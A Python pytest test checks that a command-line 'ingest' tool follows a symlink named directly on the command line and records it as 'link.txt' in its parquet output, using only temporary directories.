def test_a_link_named_on_the_command_line_is_read(tmp_path: Path) -> None:
    (tmp_path / "elsewhere").mkdir()
    target = tmp_path / "elsewhere" / "doc.txt"
    target.write_text(GOOD_TEXT, encoding="utf-8")
    (tmp_path / "corpus").mkdir()
    (tmp_path / "corpus" / "link.txt").symlink_to(target)
    run = run_cli("ingest", tmp_path / "corpus" / "link.txt", "--out", tmp_path / "out", "-q")
    assert run.returncode == 0
    assert list(pd.read_parquet(tmp_path / "out" / "corpus.parquet")["path"]) == ["link.txt"]
